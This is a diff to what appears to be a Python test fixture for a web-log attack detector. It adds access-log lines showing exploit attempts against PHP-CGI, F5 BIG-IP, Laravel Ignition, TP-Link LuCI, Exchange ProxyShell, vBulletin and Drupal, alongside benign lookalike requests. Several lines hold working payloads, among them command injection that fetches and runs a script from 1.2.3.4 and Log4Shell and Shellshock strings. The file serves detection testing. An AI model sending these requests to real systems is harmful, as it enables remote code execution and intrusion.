@@ -373,12 +373,42 @@ FAMILIES = {
         ' 404 1 "-" "Hello, world"',
         _HAPROXY % 200 + '/?x=${jndi:ldap://82.212.123.41:1389/a} HTTP/1.1"',
         _HAPROXY6 % 404 + '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"',
+        # PHP-CGI's argument injection behind a soft hyphen (CVE-2024-4577),
+        # F5 BIG-IP's iControl REST (CVE-2022-1388), Laravel Ignition
+        # (CVE-2021-3129), TP-Link Archer's locale API (CVE-2023-1389),
+        # Exchange's ProxyShell (CVE-2021-34473), WP File Manager
+        # (CVE-2020-25213), vBulletin's widget_php (CVE-2019-16759),
+        # Drupalgeddon 2 (CVE-2018-7600).
+        _WEB + '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp'
+        '://input HTTP/1.1" 404 1 "-" "M"',
+        _WEB + '/mgmt/tm/util/bash HTTP/1.1" 401 1 "-" "python-requests/2.28.1"',
+        _WEB + '/_ignition/execute-solution HTTP/1.1" 405 1 "-" "M"',
+        _WEB + '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wge'
+        't+-O-+http%3A%2F%2F1.2.3.4%2Ft%7Csh%60) HTTP/1.1" 404 1 "-" "Go-http-client/1.1"',
+        _WEB + '/autodiscover/autodiscover.json?@zdi/PowerShell?serialization=Key&X-Rps-CAT=x'
+        '&Email=autodiscover/autodiscover.json%3F@zdi HTTP/1.1" 302 1 "-" "M"',
+        _WEB + '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php HTTP/1.1"'
+        ' 404 1 "-" "M"',
+        _WEB + '/index.php?routestring=ajax/render/widget_php&widgetConfig[code]=echo+md5(1);'
+        ' HTTP/1.1" 200 1 "-" "M"',
+        _WEB + '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format'
+        '=drupal_ajax&mail[%23post_render][]=exec&mail[%23type]=markup&mail[%23markup]=id'
+        ' HTTP/1.1" 200 1 "-" "M"',
+        _HAPROXY % 404 + '/_ignition/execute-solution HTTP/1.1"',
     ], [
         _HAPROXY_OK % 200 + '/docs/jndi-lookup-guide.html HTTP/1.1"',
         _OK + '/docs/jndi-lookup-guide.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
         _OK + '/tpl?x=%24%7Bname%7D&y=${user} HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
         _OK + '/blog/php-cgi-allow_url_include-explained HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
         _OK + '/search?q=wget+http+download+tutorial HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        # The same products used as they are: Exchange's autodiscover,
+        # LuCI, a soft hyphen in a word, Drupal's forms.
+        _OK + '/autodiscover/autodiscover.json?Email=alice%40example.org&Protocol=ActiveSync'
+        ' HTTP/1.1" 200 1 "-" "Microsoft Office/16.0"',
+        _OK + '/cgi-bin/luci/admin/status/overview HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        _OK + '/search?q=co%ADoperate HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        _OK + '/node/12?destination=admin/content&form_id=post_render_settings HTTP/1.1" 200 1'
+        ' "-" "Mozilla/5.0"',
     ]),
     "web Shellshock": ((0x7010,), [
         _WEB + '/cgi-bin/status HTTP/1.1" 200 1024 "-" "() { :; }; /bin/bash -c \\"wget'
